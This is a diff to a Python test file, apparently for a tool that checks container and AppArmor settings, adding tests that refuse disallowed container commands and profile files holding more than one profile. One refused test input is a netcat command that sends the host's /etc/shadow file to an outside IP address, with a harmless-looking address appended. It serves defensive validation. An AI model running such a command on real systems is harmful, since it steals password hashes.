@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -305,8 +306,39 @@ def test_a_server_in_the_machine_s_network_serves_that_machine_alone() -> None:
     (serving,) = discovery.load_scenarios(["container-serves-host-shadow"])
     assert any("can ask the container's server" in word for word in container_changes(serving).words)
     document = serving.model_dump(by_alias=True, exclude_none=True, exclude_defaults=True)
-    document["subject"]["container"]["run"] = ["httpd", "-f", "-p", "8080"]
-    assert "serves 127.0.0.1:PORT alone" in container_refusal(Scenario.model_validate(document, strict=False))
+    for run in (
+        ["httpd", "-f", "-p", "8080"],
+        ["httpd", "-f", "-p", "0.0.0.0:8080", "-h", "/"],
+        ["httpd", "-f", "-p", "127.0.0.1:8080", "-h", "/", "-c", "/x"],
+        ["sh", "-c", "nc 192.0.2.1 80 < /hostetc/shadow", "127.0.0.1:8080"],
+    ):
+        document["subject"]["container"]["run"] = run
+        refused = container_refusal(Scenario.model_validate(document, strict=False))
+        assert "is not [httpd, -f, -p, 127.0.0.1:PORT, -h, FOLDER]" in refused
+
+
+def test_no_profile_but_the_subjects_own_is_taken_out_and_put_back(tmp_path: Path) -> None:
+    (own,) = discovery.load_scenarios(["container-reads-host-shadow-own-profile"])
+    shipped = own.model_copy(update={"apparmor": own.apparmor.model_copy(update={"shipped": ("/etc/apparmor.d/x",)})})
+    with pytest.raises(DefinitionError, match=r"/etc/apparmor\.d/x confines others than its container"):
+        container_changes(shipped, Framework.APPARMOR)
+    file = tmp_path / "two.apparmor"
+    for scenario, look in ((own, container_changes), (FLAGSHIP, changes)):
+        (given,) = scenario.apparmor.profiles
+        for more in (
+            "\nprofile docker-default {\n}\n",
+            "\n/usr/sbin/named {\n}\n",
+            "\nprofile other flags=(x) { # y\n}\n",
+        ):
+            file.write_text(given.read_text("utf-8") + more, "utf-8")
+            both = scenario.apparmor.model_copy(update={"profiles": (file,)})
+            with pytest.raises(DefinitionError, match=r"two\.apparmor has to be one profile, .*; it seems to have 2"):
+                look(scenario.model_copy(update={"apparmor": both}), Framework.APPARMOR)
+
+
+def test_what_containers_are_given_to_read_is_known_beforehand() -> None:
+    assert container_changes(CONTAINED).given == ("/etc",)
+    assert admission.all_of([container_changes(CONTAINED), changes(FLAGSHIP)]).given == ("/etc",)
 
 
 def test_a_volume_is_for_containers_alone() -> None:
